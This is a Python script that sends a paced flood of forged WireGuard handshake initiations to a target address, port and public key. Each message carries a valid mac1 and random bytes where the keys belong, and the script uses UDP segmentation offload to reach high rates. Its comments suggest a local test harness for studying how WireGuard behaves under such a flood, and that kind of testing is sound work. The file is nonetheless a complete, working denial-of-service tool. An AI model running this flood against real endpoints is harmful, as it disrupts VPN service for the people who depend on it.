# SPDX-License-Identifier: MIT
"""A flood of forged handshake initiations, sent at a paced rate from the namespace that it is started in.

Each has a valid mac1, which whoever knows the public key of the receiver can make, and random bytes in place of
everything that takes a key. So each gets as far into the receiver as a stranger's message can.
"""

import argparse
import base64
import hashlib
import os
import signal
import socket
import sys
import time

# Section 5.4.2 of the WireGuard paper: type, three zeros, sender index, ephemeral, static, timestamp, mac1, mac2.
INITIATION_TYPE = b"\x01\x00\x00\x00"
RANDOM_BYTES = 4 + 32 + 48 + 28
MAC_BYTES = 16
INITIATION_BYTES = len(INITIATION_TYPE) + RANDOM_BYTES + 2 * MAC_BYTES
MAC1_LABEL = b"mac1----"

UDP_SEGMENT = 103
# The kernel takes 64 segments in one send on every version that knows UDP_SEGMENT.
SEGMENTS = 64
# What was missed is sent later only if it is less than this; a longer pause lowers the rate instead.
CATCH_UP_SECONDS = 0.02


def forged_initiation(public_key, random):
    """One initiation to the owner of `public_key`, with `random` where it has ciphertext and keys."""
    key = hashlib.blake2s(MAC1_LABEL + public_key).digest()
    body = INITIATION_TYPE + random
    mac1 = hashlib.blake2s(body, digest_size=MAC_BYTES, key=key).digest()
    return body + mac1 + bytes(MAC_BYTES)


def batches(public_key, count):
    """`count` batches of initiations, all different, each batch in one buffer."""
    return [
        b"".join(forged_initiation(public_key, os.urandom(RANDOM_BYTES)) for _ in range(SEGMENTS))
        for _ in range(count)
    ]


def due(sent, elapsed, rate):
    """How many messages are due, and how many of `sent` to count as sent for the pace.

    Less than one batch is never due, so that each send is a full one.
    """
    target = int(elapsed * rate)
    missed = target - sent - int(CATCH_UP_SECONDS * rate)
    if missed > 0:
        sent += missed
    return (target - sent) // SEGMENTS * SEGMENTS, sent


def flood(link, buffers, rate, seconds, ended):
    """Sends until `seconds` have passed or `ended()` is true, and gives how many were sent and in what time."""
    begin = time.monotonic()
    paced = sent = place = 0
    while not ended():
        elapsed = time.monotonic() - begin
        if elapsed >= seconds:
            break
        count, paced = due(paced, elapsed, rate)
        for _ in range(count // SEGMENTS):
            link.send(buffers[place])
            place = (place + 1) % len(buffers)
        sent += count
        paced += count
        if count == 0:
            time.sleep(SEGMENTS / rate / 2)
    return sent, time.monotonic() - begin


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("source", help="address to send from")
    parser.add_argument("address")
    parser.add_argument("port", type=int)
    parser.add_argument("key", help="public key of the receiver, base64")
    parser.add_argument("--rate", type=int, default=100_000, help="messages in a second")
    parser.add_argument("--seconds", type=float, default=10)
    options = parser.parse_args()
    stopped = []
    signal.signal(signal.SIGTERM, lambda *_: stopped.append(True))
    # A real flood comes from other machines. This one shares the processors with its victim, and holds its rate
    # only if it goes first.
    os.nice(-10)
    buffers = batches(base64.b64decode(options.key), 10_000 // SEGMENTS + 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.bind((options.source, 0))
        link.connect((options.address, options.port))
        link.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, INITIATION_BYTES)
        print("ready", flush=True)
        sent, seconds = flood(link, buffers, options.rate, options.seconds, lambda: stopped)
    print(sent, seconds, flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
